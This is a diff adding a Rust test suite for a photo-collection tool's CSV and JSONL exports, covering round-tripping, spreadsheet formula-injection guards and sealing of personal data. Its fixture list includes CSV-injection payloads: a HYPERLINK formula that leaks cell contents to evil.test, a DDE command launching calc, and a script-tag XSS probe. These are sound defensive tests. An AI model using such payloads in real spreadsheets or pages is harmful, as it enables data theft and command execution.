@@ -1,0 +1,382 @@
+//! Exports: what is written is read back the same, safe in a spreadsheet, sealed unless asked.
+
+use std::collections::BTreeMap;
+use std::io::Write;
+use std::process::{Command, Stdio};
+
+use gleaner::export::{self, Format, csv::COLUMNS, csv::safe_text, csv::without_guard};
+use gleaner::photo::{
+    Camera, City, Fault, Found, ImageFile, License, Location, PersonalField, Photo, PhotoId, Place, Score, Size,
+    StageName, Subdivision, SubdivisionOrigin, Taken, Thumbnail,
+};
+use gleaner::seal::{Key, SealedPhoto, Vault};
+use proptest::prelude::*;
+use serde_json::{Map, Value, json};
+
+use super::memory::Memory;
+
+const KEY: &str = "cw_0x689RpI-jtRR7oE8h_eQsKImvJapLeSbXpwF4e4=";
+
+/// Texts that have broken something somewhere.
+const NASTY: [&str; 36] = [
+    "",
+    " ",
+    "plain",
+    "comma, semicolon; tab\there",
+    "\"quoted\"",
+    "\"",
+    "\"\"\"\",",
+    "two\nlines",
+    "two\r\nlines",
+    "old\rMac",
+    "\n",
+    "ends with a quote\"\n",
+    "=1+1",
+    "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
+    "=cmd|'/C calc'!A0",
+    "+49 170 000000",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "''=1+1",
+    "'quoted'",
+    "'",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠x",
+    "🐒👨‍👩‍👧‍👦🇮🇹",
+    "مرحبا بالعالم \u{202e}gnirts\u{202c}",
+    "Z̷̢̛a̴l̸g̵o̶ é e\u{301}",
+    "\u{feff}byte order mark",
+    "line\u{2028}separator\u{2029}",
+    "<script>alert(1)</script>",
+    "a | b \\ | c",
+    "NULL nan -0 1e309 0x10 true",
+];
+
+fn vault() -> Vault {
+    Vault::new(Key::parse(KEY).unwrap())
+}
+
+fn titled(own: &str, title: &str) -> Photo {
+    Photo { id: PhotoId::new("flickr", own), title: title.into(), ..Photo::default() }
+}
+
+/// A photo of which every field is filled.
+fn full() -> Photo {
+    let now = "2026-05-01T12:00:00Z".parse().unwrap();
+    let mut photo = Photo {
+        searches: vec![
+            Found { term: "monkey wild".into(), rank: 3, bbox: Some("-10,4,127,22".into()) },
+            Found { term: "猿".into(), rank: 1, bbox: None },
+        ],
+        description: "<b>wild</b>".into(),
+        tags: vec!["macaca".into(), "=2+5".into()],
+        machine_tags: vec!["taxonomy:genus=macaca".into()],
+        media: "photo".into(),
+        landing_url: Some("https://example.test/1".into()),
+        image_url: Some("https://img.example.test/1_b.jpg".into()),
+        file_name: Some("1_b.jpg".into()),
+        sizes: vec![
+            Size { label: "l".into(), url: "https://img.example.test/l".into(), width: 1024, height: 768 },
+            Size { label: "o".into(), url: "https://img.example.test/o".into(), width: 4000, height: 3000 },
+        ],
+        views: Some(12),
+        faves: Some(3),
+        comments: Some(0),
+        license: Some(License::flickr(5, "2026-05-01".parse().unwrap())),
+        attribution: Some("Jane Example".into()),
+        changes: Some("cropping".into()),
+        taken: Some(Taken { local: "2025-01-02T03:04:05".parse().ok(), granularity: None, unknown: false }),
+        posted_at: Some(now),
+        updated_at: Some(now),
+        found_at: Some(now),
+        location: Some(Location::new(-33.5, -70.25).unwrap().with_flickr_accuracy(16)),
+        owner_pseudonym: Some("0123456789abcdef01234567".into()),
+        scores: [("wild".to_owned(), Score { value: 0.25, scorer: "model".into(), version: "1".into() })].into(),
+        ..titled("1", "A monkey")
+    };
+    photo.file = Some(ImageFile {
+        sha256: "ab".repeat(32),
+        stored_sha256: "cd".repeat(32),
+        format: "jpeg".into(),
+        width: 4000,
+        height: 3000,
+        orientation: 6,
+        bytes: 99,
+        stored_bytes: 88,
+        downloaded_at: now,
+    });
+    photo.thumbnail = Some(Thumbnail { width: 320, height: 240, thumbhash: "+A==".into() });
+    photo.camera = serde_json::from_value::<Camera>(json!({
+        "make": "Make", "model": "Model", "lens": "Lens", "exposure_time_s": 0.0005, "f_number": 2.8, "iso": 200,
+        "exposure_bias_ev": -0.33, "focal_length_mm": 50.0, "focal_length_35mm": 75, "flash_fired": false}))
+    .ok();
+    photo.place = Some(Place {
+        country: Some("CL".into()),
+        country_name: Some("Chile".into()),
+        claims: vec!["CL".into()],
+        subdivision: Some(Subdivision {
+            code: "CL-RM".into(),
+            name: Some("Santiago".into()),
+            origin: SubdivisionOrigin::Polygon,
+        }),
+        city: Some(City { name: "Santiago".into(), geonameid: 3_871_336, distance_km: 1.5, direction: "SE".into() }),
+        at_sea: false,
+        offshore_km: Some(0.5),
+        sea: Some("South Pacific".into()),
+        border_uncertain: true,
+        data_version: "1".into(),
+    });
+    photo.fault = Some(Fault::temporary(StageName::Thumbnail, "no space"));
+    photo.personal.find(PersonalField::Owner, "11111111@N00");
+    photo.personal.find(PersonalField::OwnerName, "=Zoë \"Ünique\" 🐒");
+    photo.personal.find(PersonalField::PathAlias, Value::Null);
+    photo.personal.find(PersonalField::Exif, json!({"BodySerialNumber": "0012345"}));
+    photo.personal.find(PersonalField::RawRecord, "{broken");
+    photo
+}
+
+fn seal(photos: Vec<Photo>) -> Vec<SealedPhoto> {
+    photos.into_iter().map(|photo| vault().seal(photo).unwrap()).collect()
+}
+
+fn written(photos: Vec<Photo>, format: Format, open: Option<&Vault>) -> String {
+    let count = photos.len() as u64;
+    let mut out = Vec::new();
+    assert_eq!(export::write(&Memory::of(&seal(photos)), format, open, &mut out).unwrap(), count);
+    String::from_utf8(out).unwrap()
+}
+
+fn table(text: &str) -> Vec<BTreeMap<String, String>> {
+    let text = text.strip_prefix('\u{feff}').expect("a byte order mark");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    reader.deserialize().map(Result::unwrap).collect()
+}
+
+fn lines(text: &str) -> Vec<Value> {
+    assert!(text.is_empty() || text.ends_with('\n'));
+    text.split_terminator('\n').map(|line| serde_json::from_str(line).unwrap()).collect()
+}
+
+#[test]
+fn nasty_texts_come_back_the_same_from_both_formats() {
+    let photos = || NASTY.iter().enumerate().map(|(nth, title)| titled(&format!("{nth:03}"), title)).collect();
+    let (rows, objects) =
+        (table(&written(photos(), Format::Csv, None)), lines(&written(photos(), Format::Jsonl, None)));
+    assert_eq!((rows.len(), objects.len()), (NASTY.len(), NASTY.len()));
+    for ((row, object), title) in rows.iter().zip(&objects).zip(NASTY) {
+        assert_eq!(without_guard(&row["title"]), title);
+        assert_eq!(object["title"], title);
+    }
+}
+
+#[test]
+fn control_characters_become_pictures_in_csv_and_stay_in_json() {
+    let title = "\0=a\x1b[31mred\x7f";
+    let csv = written(vec![titled("1", title)], Format::Csv, None);
+    assert!(csv.chars().all(|c| !c.is_control() || matches!(c, '\r' | '\n')));
+    assert_eq!(table(&csv)[0]["title"], "'\u{2400}=a\u{241b}[31mred\u{2421}");
+    assert_eq!(lines(&written(vec![titled("1", title)], Format::Jsonl, None))[0]["title"], title);
+}
+
+#[test]
+fn numbers_are_numbers_also_below_zero() {
+    let rows = table(&written(vec![full()], Format::Csv, None));
+    for (column, number) in [
+        ("location.latitude", -33.5),
+        ("location.longitude", -70.25),
+        ("camera.exposure_bias_ev", -0.33),
+        ("camera.exposure_time_s", 0.0005),
+        ("scores.wild.value", 0.25),
+    ] {
+        assert_eq!(rows[0][column].parse::<f64>(), Ok(number), "{column}");
+    }
+}
+
+/// Dotted paths of everything in a JSON value, lists looked into.
+fn paths(value: &Value, prefix: &str, found: &mut Vec<String>) {
+    match value {
+        Value::Object(object) => object.iter().for_each(|(name, value)| {
+            let path = if prefix.is_empty() { name.clone() } else { format!("{prefix}.{name}") };
+            paths(value, &path, found);
+        }),
+        Value::Array(items) if items.iter().any(Value::is_object) => {
+            for item in items {
+                paths(item, prefix, found);
+            }
+        }
+        _ => found.push(prefix.to_owned()),
+    }
+}
+
+#[test]
+fn every_field_of_the_json_has_a_column_that_says_the_same() {
+    let row = table(&written(vec![full()], Format::Csv, None)).remove(0);
+    let mut object = lines(&written(vec![full()], Format::Jsonl, None)).remove(0);
+    let mut found = Vec::new();
+    paths(&object, "", &mut found);
+    let elsewhere = ["file.downloaded_at", "scores.wild.scorer", "scores.wild.version"];
+    found.retain(|path| !elsewhere.contains(&path.as_str()));
+    let missing: Vec<_> = found.iter().filter(|path| !row.contains_key(*path)).collect();
+    assert!(missing.is_empty(), "no columns for {missing:?}");
+    let empty: Vec<_> = COLUMNS.iter().filter(|column| row[**column].is_empty()).collect();
+    assert_eq!(empty, [&"taken.granularity"]);
+    assert_eq!(row["searches.term"], "monkey wild | 猿");
+    assert_eq!(row["searches.rank"], "3 | 1");
+    assert_eq!(row["searches.bbox"], "'-10,4,127,22 | ");
+    assert_eq!(row["tags"], "macaca | =2+5");
+    assert_eq!(row["thumbnail.thumbhash"], "'+A==");
+    assert_eq!(row["file_path"], object["file_path"].take().as_str().unwrap());
+    assert_eq!((row["state"].as_str(), row["source"].as_str()), ("failed", "flickr"));
+}
+
+#[test]
+fn the_columns_keep_their_places_and_scores_come_last() {
+    let scored = |own: &str, concept: &str| {
+        let score = Score { value: 1.0, scorer: "s".into(), version: "1".into() };
+        Photo { scores: [(concept.to_owned(), score)].into(), ..titled(own, "t") }
+    };
+    let csv = written(vec![scored("1", "猿"), titled("2", "t"), scored("3", "=x")], Format::Csv, None);
+    assert!(csv.starts_with('\u{feff}') && csv.ends_with("\r\n") && !csv.replace("\r\n", "").contains(['\r', '\n']));
+    let head: Vec<_> = csv.trim_start_matches('\u{feff}').lines().next().unwrap().split(',').collect();
+    assert_eq!(&head[..COLUMNS.len()], COLUMNS);
+    let rest = ["sealed.owner_name", "sealed.path_alias", "sealed.owner", "sealed.exif", "sealed.raw_record"];
+    assert_eq!(&head[COLUMNS.len()..COLUMNS.len() + 5], rest);
+    assert_eq!(&head[COLUMNS.len() + 5..], ["scores.=x.value", "scores.猿.value"]);
+    let none = written(Vec::new(), Format::Csv, None);
+    assert_eq!((none.lines().count(), table(&none).len()), (1, 0), "an empty dataset has a head");
+    assert_eq!(written(Vec::new(), Format::Jsonl, None), "");
+}
+
+#[test]
+fn people_stay_sealed_unless_a_vault_opens_them() {
+    let people = ["Ünique", "11111111", "0012345", "{broken"];
+    for format in [Format::Csv, Format::Jsonl] {
+        let sealed = written(vec![full()], format, None);
+        assert!(people.iter().all(|person| !sealed.contains(person)) && !sealed.contains("personal"));
+        assert!(sealed.contains("gAAAA"));
+        let opened = written(vec![full()], format, Some(&vault()));
+        assert!(people.iter().all(|person| opened.contains(person)) && !opened.contains("gAAAA"));
+    }
+    let row = table(&written(vec![full()], Format::Csv, Some(&vault()))).remove(0);
+    assert_eq!(row["personal.owner_name"], "'=Zoë \"Ünique\" 🐒");
+    assert_eq!(row["personal.path_alias"], "");
+    assert_eq!(row["personal.exif"], r#"{"BodySerialNumber":"0012345"}"#);
+    assert_eq!(row["personal.raw_record"], r#""{broken""#);
+    let object = lines(&written(vec![full()], Format::Jsonl, Some(&vault()))).remove(0);
+    assert_eq!(object["personal"]["path_alias"], Value::Null);
+    assert_eq!(object["personal"]["raw_record"], "{broken");
+}
+
+#[test]
+fn a_strange_key_opens_nothing() {
+    let sealed = Memory::of(&seal(vec![full()]));
+    let strange = Vault::new(Key::generate());
+    for format in [Format::Csv, Format::Jsonl] {
+        assert!(export::write(&sealed, format, Some(&strange), &mut Vec::new()).is_err());
+    }
+}
+
+#[test]
+fn more_photos_than_one_read_of_the_store_are_all_written_once() {
+    let photos = || (0..1300).map(|nth| titled(&format!("{nth:05}"), "t")).collect::<Vec<_>>();
+    let ids: Vec<_> = table(&written(photos(), Format::Csv, None)).into_iter().map(|row| row["id"].clone()).collect();
+    assert_eq!(ids, photos().iter().map(|photo| photo.id.to_string()).collect::<Vec<_>>());
+    assert_eq!(lines(&written(photos(), Format::Jsonl, None)).len(), 1300);
+}
+
+#[test]
+fn docs_name_every_field() {
+    let docs = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/export.md")).unwrap();
+    let missing: Vec<_> = COLUMNS.iter().filter(|column| !docs.contains(&format!("`{column}`"))).collect();
+    assert!(missing.is_empty(), "docs/export.md does not tell about {missing:?}");
+}
+
+/// The Python that docs/export.md shows under a heading, as users copy it.
+fn snippet(nth: usize) -> String {
+    let docs = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/docs/export.md")).unwrap();
+    docs.split("```python\n").nth(nth + 1).unwrap().split("```").next().unwrap().to_owned()
+}
+
+fn python(script: &str, folder: &std::path::Path) -> Option<String> {
+    let python = std::env::var_os("GLEANER_PYTHON").unwrap_or_else(|| "python3".into());
+    let have = Command::new(&python).args(["-c", "import cryptography"]).stderr(Stdio::null()).status();
+    if !have.is_ok_and(|status| status.success()) {
+        assert!(std::env::var_os("GLEANER_CI").is_none(), "must not be skipped here: no Python with cryptography");
+        println!("skipped: no Python with the package cryptography");
+        return None;
+    }
+    let mut child = Command::new(&python)
+        .args(["-X", "utf8", "-"])
+        .current_dir(folder)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    child.stdin.take().unwrap().write_all(script.as_bytes()).unwrap();
+    let output = child.wait_with_output().unwrap();
+    assert!(output.status.success(), "Python refused:\n{script}");
+    Some(String::from_utf8(output.stdout).unwrap())
+}
+
+#[test]
+fn the_python_of_the_docs_reads_both_formats_and_opens_a_token() {
+    let folder = tempfile::tempdir().unwrap();
+    let photos = || {
+        let nasty = NASTY.iter().enumerate().map(|(nth, title)| titled(&format!("a{nth:03}"), title));
+        std::iter::once(full()).chain(nasty).collect::<Vec<_>>()
+    };
+    for (name, format) in [("monkeys.csv", Format::Csv), ("monkeys.jsonl", Format::Jsonl)] {
+        std::fs::write(folder.path().join(name), written(photos(), format, None)).unwrap();
+    }
+    std::fs::write(folder.path().join("monkeys.key"), format!("{KEY}\n")).unwrap();
+    let show =
+        "\nprint(json.dumps([r['title'] for r in rows]))\nprint(sum(r['location.longitude'] or 0 for r in rows))\n";
+    let Some(said) = python(&format!("import json\n{}{show}", snippet(0)), folder.path()) else { return };
+    let last: Vec<&str> = said.lines().rev().take(2).collect();
+    let expected: Vec<_> = std::iter::once("A monkey").chain(NASTY).collect();
+    assert_eq!(serde_json::from_str::<Vec<String>>(last[1]).unwrap(), expected);
+    assert_eq!(last[0].parse::<f64>(), Ok(-70.25));
+    let said = python(&format!("{}\nprint(len(photos))\n", snippet(1)), folder.path()).unwrap();
+    assert_eq!(said.lines().last(), Some("37"));
+    let said = python(&format!("{}\nprint(json.dumps(owner))\n", snippet(2)), folder.path()).unwrap();
+    assert_eq!(serde_json::from_str::<Value>(said.lines().last().unwrap()).unwrap(), json!("11111111@N00"));
+}
+
+proptest! {
+    #[test]
+    fn no_text_starts_a_formula_and_every_text_is_found_back(text in "[=+@'\t\r\n＝＠ a-]{0,4}\\PC{0,12}") {
+        let cell = safe_text(&text);
+        prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']), "{cell:?}");
+        prop_assert_eq!(without_guard(&cell), text);
+    }
+
+    #[test]
+    fn no_cell_holds_a_control_character(text in "(?s).{0,20}") {
+        let cell = safe_text(&text);
+        let cell = without_guard(&cell);
+        prop_assert!(cell.chars().all(|c| !c.is_ascii_control() || matches!(c, '\t' | '\n' | '\r')));
+        prop_assert_eq!(cell.chars().count(), text.chars().count());
+    }
+
+    #[test]
+    fn any_title_survives_both_formats(title in "(?s).{0,30}") {
+        let object = lines(&written(vec![titled("1", &title)], Format::Jsonl, None)).remove(0);
+        prop_assert_eq!(&object["title"], &Value::from(title.clone()));
+        let rows = table(&written(vec![titled("1", &title)], Format::Csv, None));
+        let pictured: String = without_guard(&safe_text(&title)).to_owned();
+        prop_assert_eq!(without_guard(&rows[0]["title"]), pictured);
+    }
+}
+
+#[test]
+fn what_may_be_read_without_a_key_holds_neither_tokens_nor_people() {
+    let sealed = seal(vec![full()]).remove(0);
+    let public: Map<String, Value> = export::public(&sealed).unwrap();
+    let text = Value::Object(public).to_string();
+    assert!(!text.contains("gAAAA") && !text.contains("11111111") && text.contains("\"file_path\""));
+}
